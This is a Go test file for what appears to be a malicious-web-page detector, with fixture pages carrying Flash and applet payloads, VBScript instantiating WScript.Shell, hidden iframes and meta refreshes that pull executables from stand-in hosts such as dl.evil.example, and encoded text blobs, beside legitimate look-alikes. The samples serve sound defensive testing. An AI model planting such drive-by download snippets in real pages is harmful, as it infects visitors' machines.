package detect

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/honeygate/honeygate/internal/crawl"
)

// structureRules judges one document served at pageURL inside a visit of
// visitURL (the same for a direct visit; another site's page when the
// document is an injected frame).
func structureRules(visitURL, pageURL, body string) []string {
	typ := crawl.TypeDocument
	res := []crawl.Resource{}
	if visitURL != pageURL {
		res = append(res, crawl.Resource{URL: visitURL, Type: crawl.TypeDocument, Body: []byte(`<html><body><p>a page</p><iframe src="` + pageURL + `" width="600" height="100"></iframe></body></html>`)})
		typ = crawl.TypeIframe
	}
	res = append(res, crawl.Resource{URL: pageURL, Type: typ, Body: []byte(body), Parent: visitURL})
	in := &Input{C: &crawl.Capture{URL: visitURL, FinalURL: visitURL, Resources: res}, Site: SiteOf(hostOf(visitURL))}
	var rs []string
	for _, r := range (Structure{}).Detect(context.Background(), in) {
		if !slices.Contains(rs, r.Rule) {
			rs = append(rs, r.Rule)
		}
	}
	return rs
}

// Plug-in payloads, VBScript, programs loaded without a click and encoded
// element text, on pages written for the test, beside the legitimate pages
// closest to them.
func TestPluginSignals(t *testing.T) {
	const site, evil = "http://www.example.org/docs/page.html", "http://gate.example.net/land.php"
	prose := strings.Repeat("The quick brown fox jumps over the lazy dog, again and again. ", 80)
	b64 := strings.Repeat("QmFzZTY0IGlzIGEgZ3JvdXAgb2YgYmluYXJ5LXRvLXRleHQgZW5jb2Rpbmcgc2NoZW1lcw", 70)
	for _, c := range []struct {
		name, visit, page, body string
		want                    []string // all of these
		not                     []string // none of these
	}{
		{"flash-only landing", evil, evil, `<html><body><object type="application/x-shockwave-flash" data="/f/a8d3.swf" width="10" height="10"><param name="FlashVars" value="` + b64[:400] + `"></object></body></html>`,
			[]string{"plugin-payload", "plugin-landing"}, []string{"plugin-payload-cross-site"}},
		{"landing in a victim's frame", site, evil, `<html><body><object classid="clsid:d27cdb6e-ae6d-11cf-96b8-444553540000"><param name="movie" value="http://gate.example.net/x.swf"></object></body></html>`,
			[]string{"plugin-payload", "plugin-payload-cross-site", "plugin-landing"}, nil},
		{"applet from another host", site, site, `<html><body>` + prose + `<applet archive="http://cdn.evil.example/a.jar" code="Main.class" width="1" height="1"></applet></body></html>`,
			[]string{"plugin-payload", "plugin-payload-cross-site"}, []string{"plugin-landing"}},
		{"vbscript", evil, evil, `<html><body><script language="VBScript">Set o = CreateObject("WScript.Shell")</script></body></html>`, []string{"vbscript"}, nil},
		{"frame to a program", site, site, `<html><body>` + prose + `<iframe src="http://dl.evil.example/update/setup.exe" width="0" height="0"></iframe></body></html>`, []string{"executable-autoload"}, nil},
		{"refresh to a program", site, site, `<html><head><meta http-equiv="refresh" content="0;url=http://dl.evil.example/FlashUpdate.hta"></head><body>Updating</body></html>`, []string{"executable-autoload"}, nil},
		{"encoded text and a reader", evil, evil, `<html><body><p>` + prose[:300] + `</p><div id="d">` + b64 + `</div><script>var t=document.getElementById("d").innerHTML;</script></body></html>`, []string{"encoded-text-payload"}, nil},
		{"encoded text with noise", evil, evil, `<html><body><span id="s">` + strings.ReplaceAll(b64, "Z", "Z. ") + `</span><script>go()</script></body></html>`, []string{"encoded-text-payload"}, nil},
		{"a page of script", evil, evil, `<html><body><script>` + strings.Repeat("var a = b + c; ", 150) + `</script></body></html>`, []string{"script-only-page"}, nil},
		// Legitimate look-alikes.
		{"video embed and download link", site, site, `<html><body>` + prose + `<iframe src="https://video.example.com/embed/42" width="560" height="315"></iframe><a href="https://dl.example.org/setup.exe">Download</a><script>x()</script></body></html>`, nil,
			[]string{"plugin-payload", "executable-autoload", "encoded-text-payload", "vbscript"}},
		{"long prose and listings", site, site, `<html><body><p>` + prose + `</p><pre>` + strings.Repeat("00000010  7f 45 4c 46 02 01 01 00  00 00 00 00 00 00 00 00  |.ELF............|\n", 60) + `</pre><script>x()</script></body></html>`, nil,
			[]string{"encoded-text-payload"}},
		{"random filler words", evil, evil, `<html><body><div>` + strings.Repeat("VmCrWcgaE QVVuzB Ghu x VplCl cnsfIJqzwhHXDBi Nr EIF FTRQgwkudX HG ", 80) + `</div><script>x()</script></body></html>`, nil,
			[]string{"encoded-text-payload"}},
		{"object with an image", site, site, `<html><body>` + prose + `<object data="diagram.svg" type="image/svg+xml"></object><embed src="clip.mp4"></body></html>`, nil,
			[]string{"plugin-payload", "executable-autoload"}},
		{"a page of text and script", site, site, `<html><body><p>` + prose + `</p><script>` + strings.Repeat("var a = b + c; ", 150) + `</script></body></html>`, nil, []string{"script-only-page"}},
		{"javascript type", site, site, `<html><body><script type="text/javascript">var vbscript = 1;</script></body></html>`, nil, []string{"vbscript"}},
	} {
		got := structureRules(c.visit, c.page, c.body)
		for _, w := range c.want {
			if !slices.Contains(got, w) {
				t.Errorf("%s: rules %v, want %s", c.name, got, w)
			}
		}
		for _, n := range c.not {
			if slices.Contains(got, n) {
				t.Errorf("%s: rules %v, must not have %s", c.name, got, n)
			}
		}
	}
	w := DefaultWeights()
	if w.Score("structure", "plugin-payload", 0) >= w.Malicious || w.Score("structure", "encoded-text-payload", 0) >= w.Malicious {
		t.Error("a plug-in file or an encoded text alone must not make a page malicious")
	}
}

// FuzzScanPlugins: any document is scanned without panicking, within its
// bounds: at most 64 payloads, text never longer than the body.
func FuzzScanPlugins(f *testing.F) {
	for _, s := range []string{
		`<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000"><param name="movie" value="a.swf">`, `<applet archive=x.jar>`, `<embed src=a.exe>`,
		`<script language=vbscript>x</script>`, `<script type="text/vbscript"/>`, `<iframe src="a.scr">`, `<object><object data=a.xap>`, `<param name=movie value="%zz">`,
		"<div>" + strings.Repeat("QUJD", 1200) + "</div>", `<object data="http://[::1">`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		s := scanPlugins(b, nil)
		if len(s.payloads) > 64 || s.text > len(b) || s.encText > len(b) || s.param > len(b) {
			t.Fatalf("out of bounds: %d payloads, text %d, enc %d, param %d for %d bytes", len(s.payloads), s.text, s.encText, s.param, len(b))
		}
	})
}

// A script naming another site's plug-in file or program, or another
// site's script naming one, is a carrier; a site's own script naming its
// own download is not.
func TestForeignPayloadRef(t *testing.T) {
	page := "http://www.example.org/index.html"
	rules := func(scriptURL, body string) []string {
		in := &Input{C: &crawl.Capture{URL: page, FinalURL: page, Resources: []crawl.Resource{
			{URL: page, Type: crawl.TypeDocument, Body: []byte(`<html><body><p>hello</p><script src="` + scriptURL + `"></script></body></html>`)},
			{URL: scriptURL, Type: crawl.TypeScript, Body: []byte(body), Parent: page},
		}}, Site: SiteOf("www.example.org")}
		var rs []string
		for _, r := range NewScript().Detect(context.Background(), in) {
			rs = append(rs, r.Rule+" "+r.Evidence)
		}
		return rs
	}
	for _, c := range []struct {
		name, script, body, want string // want: "" = no foreign-payload-ref
	}{
		{"another site's applet", "http://www.example.org/js/menu.js", `document.write('<applet archive="http://cdn.evil.example/g.jar" code="a.class"></applet>');`, "foreign-payload-ref http://cdn.evil.example/g.jar"},
		{"another site's script names a program", "http://cdn.evil.example/u.js", `var u = "//dl.evil.example/flash_update.exe"; setTimeout(go, 100);`, "foreign-payload-ref http://dl.evil.example/flash_update.exe"},
		{"own download", "http://www.example.org/js/dl.js", `var u = "https://downloads.example.org/tool-1.2.msi";`, ""},
		{"no payload", "http://cdn.other.example/lib.js", `var u = "https://cdn.other.example/fonts/a.woff2";`, ""},
	} {
		got := rules(c.script, c.body)
		has := slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "foreign-payload-ref") })
		switch {
		case c.want == "" && has:
			t.Errorf("%s: %v", c.name, got)
		case c.want != "" && !slices.Contains(got, c.want):
			t.Errorf("%s: %v, want %q", c.name, got, c.want)
		}
	}
}
